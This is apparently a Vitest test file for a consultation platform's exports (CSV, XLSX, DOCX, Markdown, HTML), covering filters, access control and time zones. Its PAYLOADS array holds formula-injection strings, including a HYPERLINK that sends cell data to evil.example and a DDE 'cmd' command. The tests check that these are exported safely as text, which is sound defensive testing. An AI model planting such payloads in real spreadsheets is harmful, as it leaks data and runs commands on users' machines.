import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import mammoth from 'mammoth';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { anchorOn } from '../helpers/findInDraft.ts';
import { type InProcessServer, startInProcessServer } from '../helpers/inProcessServer.ts';
import { api, createConsultation, type Invited, invite } from '../helpers/members.ts';

let server: InProcessServer;
let leyla: Invited;
let boris: Invited;
let fatou: Invited;
const exportPath = (consultation: string, file: string) => `/api/consultations/${consultation}/export/${file}`;
const threadsPath = '/api/consultations/baku/threads';
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'];

async function download(path: string, token: string): Promise<{ status: number; headers: Headers; bytes: Uint8Array }> {
  const res = await fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  return { status: res.status, headers: res.headers, bytes: new Uint8Array(await res.arrayBuffer()) };
}

beforeAll(async () => {
  server = await startInProcessServer();
  // A demo-seeded consultation whose exports show Baku time.
  await createConsultation(server, { id: 'baku', seed: 'demo', timeZone: 'Asia/Baku' });
  leyla = await invite(server, 'baku', {
    role: 'participant',
    name: 'Leyla Məmmədova',
    organisation: 'Azərbaycan Dövlət Miqrasiya Xidməti',
  });
  boris = await invite(server, 'baku', { role: 'commenter', name: 'Борис Петров', organisation: 'Министерство труда' });
  fatou = await invite(server, 'baku', { role: 'facilitator', name: 'Fatou Sow', organisation: 'iom-veloria' });
  const post = (path: string, token: string, body: unknown) => api(server, path, { method: 'POST', token, body });
  const anchor = await server.rooms.withRoom('baku:draft', (room) => anchorOn(room.doc, 'Law No. 24/2010'));
  // Opened in this order on purpose: the matrix must sort them by the profile, not by time.
  const on62 = await post(threadsPath, leyla.token, {
    indicatorId: '6.2',
    type: 'question',
    body: 'Où est la formation ?',
  });
  expect(on62.status).toBe(201);
  const on24 = await post(threadsPath, leyla.token, {
    indicatorId: '2.4',
    type: 'factual-correction',
    body: 'The law was amended in 2024.',
    proposedText: 'Law No. 24/2010 as amended in 2024',
    anchor,
  });
  expect(on24.status, JSON.stringify(on24.body)).toBe(201);
  expect(
    (await post(`${threadsPath}/${on24.body.id}/comments`, boris.token, { body: 'Подтверждаю, статья 3.' })).status,
  ).toBe(201);
  for (const payload of PAYLOADS) {
    expect(
      (await post(threadsPath, boris.token, { indicatorId: '1.1', type: 'editorial', body: payload })).status,
    ).toBe(201);
  }
  const accepted = await post(threadsPath, leyla.token, {
    indicatorId: '2.4',
    type: 'editorial',
    body: 'Say city-run.',
    proposedText: 'city-run Migrant Integration Office',
    anchor: await server.rooms.withRoom('baku:draft', (room) =>
      anchorOn(room.doc, 'municipal Migrant Integration Office'),
    ),
  });
  expect(accepted.status, JSON.stringify(accepted.body)).toBe(201);
  const resolved = await post(`${threadsPath}/${accepted.body.id}/resolve`, fatou.token, {
    outcome: 'accepted',
    response: 'Agreed.',
  });
  expect(resolved.status, JSON.stringify(resolved.body)).toBe(200);
});
afterAll(async () => {
  await server.close();
});

describe('comment matrix', () => {
  it('CSV: one row per comment in profile order, UTF-8 names, Baku time, formulas kept as text, a safe file name', async () => {
    const res = await download(exportPath('baku', 'comments.csv'), fatou.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="baku-comment-matrix-\d{4}-\d{2}-\d{2}\.csv"; filename\*=UTF-8''baku-comment-matrix-/,
    );
    const rows: string[][] = parse(new TextDecoder().decode(res.bytes), { bom: true });
    const [header, ...data] = rows;
    expect(header?.[11]).toBe('Time (Asia/Baku)');
    expect(data.map((r) => [r[1], r[4]])).toEqual([
      ['1.1', 'Comment'],
      ['1.1', 'Comment'],
      ['1.1', 'Comment'],
      ['1.1', 'Comment'],
      ['2.4', 'Comment'],
      ['2.4', 'Reply'],
      ['2.4', 'Comment'],
      ['6.2', 'Comment'],
    ]);
    expect(data.slice(0, 4).map((r) => r[7])).toEqual(PAYLOADS.map((p) => `'${p}`));
    const amended = data[4] ?? [];
    expect(amended[0]).toBe('2. Whole-of-government approach');
    expect(amended[5]).toBe('Law No. 24/2010');
    expect(amended.slice(9, 11)).toEqual(['Leyla Məmmədova', 'Azərbaycan Dövlət Miqrasiya Xidməti']);
    expect(data[5]?.slice(7, 11)).toEqual(['Подтверждаю, статья 3.', '', 'Борис Петров', 'Министерство труда']);
    expect(data[7]?.[7]).toBe('Où est la formation ?');
    expect(data[6]?.slice(12, 16)).toEqual(['Resolved', 'Accepted', 'Agreed.', 'Fatou Sow']);
    // Comments were written moments ago; their time is shown at UTC+4.
    const written = new Date(Date.parse(`${amended[11]}:00Z`) - 4 * 3600_000);
    expect(Math.abs(written.getTime() - Date.now())).toBeLessThan(10 * 60_000);
  });

  it("applies the sidebar's filters given as query parameters", async () => {
    const res = await download(
      exportPath('baku', 'comments.csv?type=question&organisation=Azərbaycan Dövlət Miqrasiya Xidməti'),
      fatou.token,
    );
    const rows: string[][] = parse(new TextDecoder().decode(res.bytes), { bom: true });
    expect(rows.slice(1).map((r) => r[7])).toEqual(['Où est la formation ?']);
    // Its name says it is not the whole matrix.
    expect(res.headers.get('content-disposition')).toMatch(
      /filename="baku-comment-matrix-filtered-\d{4}-\d{2}-\d{2}\.csv"/,
    );
    const byDomain: string[][] = parse(
      new TextDecoder().decode(
        (await download(exportPath('baku', 'comments.csv?domain=2&status=open'), fatou.token)).bytes,
      ),
      { bom: true },
    );
    expect(byDomain.slice(1).map((r) => r[4])).toEqual(['Comment', 'Reply']);
  });

  it('XLSX: reads back with ExcelJS, styled frozen header with autofilter, rows in profile order, formulas as text', async () => {
    const res = await download(exportPath('baku', 'comments.xlsx'), fatou.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.bytes.buffer as ArrayBuffer);
    const sheet = workbook.getWorksheet('Comment matrix');
    if (sheet === undefined) throw new Error('no sheet');
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    expect(sheet.rowCount).toBe(9);
    for (let r = 2; r <= 5; r++) {
      const cell = sheet.getRow(r).getCell(8);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(`'${PAYLOADS[r - 2]}`);
    }
    expect(sheet.getRow(6).getCell(10).value).toBe('Leyla Məmmədova');
    expect(sheet.getRow(7).getCell(11).value).toBe('Министерство труда');
  });

  it('refuses a filter or variant it does not know, or a value out of range, with a JSON error', async () => {
    for (const file of [
      'comments.xlsx?colour=red',
      'comments.csv?domain=9',
      'comments.csv?status=closed',
      'profile.docx?comments=all',
      'profile.html?x=1',
    ]) {
      const res = await api(server, exportPath('baku', file), { token: fatou.token });
      expect(res.status, file).toBe(400);
      expect(res.body.error.code).toBe('bad_request');
    }
  });
});

describe('profile', () => {
  it('DOCX clean: mammoth reads the profile in order with its fields, no comments', async () => {
    const res = await download(exportPath('baku', 'profile.docx'), fatou.token);
    expect(res.status).toBe(200);
    const text = (await mammoth.extractRawText({ buffer: Buffer.from(res.bytes) })).value;
    const body = text.slice(text.indexOf('Summary\n\n'));
    const order = ['Summary\n\n', 'Country context\n\n', "Domain 1: Migrants' rights\n\n", '2.4 ', 'Domain 6: '];
    const at = order.map((s) => body.indexOf(s));
    expect(at.every((i) => i >= 0)).toBe(true);
    expect([...at].sort((a, b) => a - b)).toEqual(at);
    expect(body).toContain('Answer: ');
    expect((await JSZip.loadAsync(res.bytes)).file('word/comments.xml')).toBeNull();
  });

  it('DOCX annotated: open threads are Word comments with replies; the accepted wording is a tracked change', async () => {
    const res = await download(exportPath('baku', 'profile.docx?comments=open'), fatou.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain('baku-profile-annotated-');
    const zip = await JSZip.loadAsync(res.bytes);
    const comments = (await zip.file('word/comments.xml')?.async('string')) ?? '';
    expect(comments).toContain('The law was amended in 2024.');
    expect(comments).toContain('Подтверждаю, статья 3.');
    expect(comments).toContain('w:author="Leyla Məmmədova (Azərbaycan Dövlət Miqrasiya Xidməti)"');
    expect(comments).not.toContain('Say city-run.');
    const xml = (await zip.file('word/document.xml')?.async('string')) ?? '';
    const id = /<w:comment w:id="(\d+)"(?:(?!<\/w:comment>).)*The law was amended in 2024\./s.exec(comments)?.[1];
    const from = xml.indexOf(`<w:commentRangeStart w:id="${id}"/>`);
    const to = xml.indexOf(`<w:commentRangeEnd w:id="${id}"/>`);
    expect(from).toBeGreaterThan(0);
    expect(xml.slice(from, to).replace(/<[^>]+>/g, '')).toBe('Law No. 24/2010');
    expect(xml).toMatch(/<w:del [^>]*w:author="Fatou Sow"[^>]*>.*?municipal Migrant Integration Office.*?<\/w:del>/s);
    expect(xml).toMatch(/<w:ins [^>]*w:author="Fatou Sow"[^>]*>.*?city-run Migrant Integration Office.*?<\/w:ins>/s);
  });

  it('Markdown: the import template; HTML: a print page, annotated on request', async () => {
    const md = await api(server, exportPath('baku', 'profile.md'), { token: fatou.token });
    expect(md.status).toBe(200);
    expect(md.headers.get('content-type')).toBe('text/markdown; charset=utf-8');
    expect(md.body).toMatch(/^# Migration Governance Profile/);
    expect(md.body).toContain('\n## Domain 2: Whole-of-government approach\n\n### 2.1 ');
    expect(md.body).toContain('\n**Answer:** ');
    const annotatedMd = await api(server, exportPath('baku', 'profile.md?comments=open'), { token: fatou.token });
    expect(annotatedMd.status).toBe(400);
    const html = await api(server, exportPath('baku', 'profile.html?comments=open'), { token: fatou.token });
    expect(html.status).toBe(200);
    expect(html.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(html.body).toContain('counter(pages)');
    expect(html.body).toContain('>Law No. 24/2010<sup>');
    expect(html.body).toContain('Подтверждаю, статья 3.');
  });

  it("Minutes: times on the consultation's clocks (Baku), the zone named, the file dated by Baku's day", async () => {
    const before = Date.now();
    const res = await fetch(`${server.url}/api/consultations/baku/minutes`, {
      headers: { authorization: `Bearer ${fatou.token}` },
    });
    expect(res.status).toBe(200);
    const markdown = await res.text();
    const generated = /- Generated: .* at (\d\d:\d\d) \(Asia\/Baku\), from the live meeting/.exec(markdown);
    expect(generated, markdown).not.toBeNull();
    const bakuClock = (at: number) =>
      new Intl.DateTimeFormat('en-GB', {
        timeZone: 'Asia/Baku',
        hour: '2-digit',
        minute: '2-digit',
        hourCycle: 'h23',
      }).format(at);
    expect([bakuClock(before), bakuClock(Date.now())]).toContain(generated?.[1]);
    const bakuDay = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Baku' }).format(before);
    expect(res.headers.get('content-disposition')).toContain(`baku-minutes-${bakuDay}.md`);
  });
});

describe('who may export', () => {
  it('refuses participants and commenters with a 403 JSON error, and anonymous requests with 401', async () => {
    for (const file of ['comments.xlsx', 'comments.csv', 'profile.docx', 'profile.md', 'profile.html?comments=open']) {
      for (const token of [leyla.token, boris.token]) {
        const res = await api(server, exportPath('baku', file), { token });
        expect(res.status, file).toBe(403);
        expect(res.headers.get('content-type')).toContain('application/json');
        expect(res.body.error.code).toBe('forbidden');
      }
      expect((await api(server, exportPath('baku', file))).status).toBe(401);
    }
  });

  it("refuses a facilitator of another consultation, and answers 404 for one that doesn't exist", async () => {
    const other = await invite(server, 'demo', { role: 'facilitator', name: 'Other Facilitator' });
    expect((await api(server, exportPath('baku', 'profile.docx'), { token: other.token })).status).toBe(403);
    const missing = await api(server, exportPath('nowhere', 'comments.csv'), { token: server.adminToken });
    expect(missing.status).toBe(404);
  });
});

describe('time zone of a consultation', () => {
  it('refuses an unknown time zone at creation', async () => {
    const res = await api(server, '/api/consultations', {
      method: 'POST',
      token: server.adminToken,
      body: { id: 'mars', seed: 'demo', timeZone: 'Mars/Olympus_Mons' },
    });
    expect(res.status).toBe(400);
    expect(res.body.error.message).toContain('timeZone');
  });

  it('is UTC when none is given, and shown in the summary', async () => {
    const res = await api(server, '/api/consultations/demo', { token: server.adminToken });
    expect(res.body.timeZone).toBe('UTC');
    const csv = await download(exportPath('demo', 'comments.csv'), server.adminToken);
    expect(new TextDecoder().decode(csv.bytes)).toContain('"Time (UTC)"');
  });

  it('keeps a time zone as the runtime names it, however it was typed', async () => {
    const created = await api(server, '/api/consultations', {
      method: 'POST',
      token: server.adminToken,
      body: { id: 'lower-case-zone', seed: 'demo', timeZone: 'asia/baku' },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const res = await api(server, '/api/consultations/lower-case-zone', { token: server.adminToken });
    expect(res.body.timeZone).toBe('Asia/Baku');
    const csv = await download(exportPath('lower-case-zone', 'comments.csv'), server.adminToken);
    expect(new TextDecoder().decode(csv.bytes)).toContain('"Time (Asia/Baku)"');
  });
});
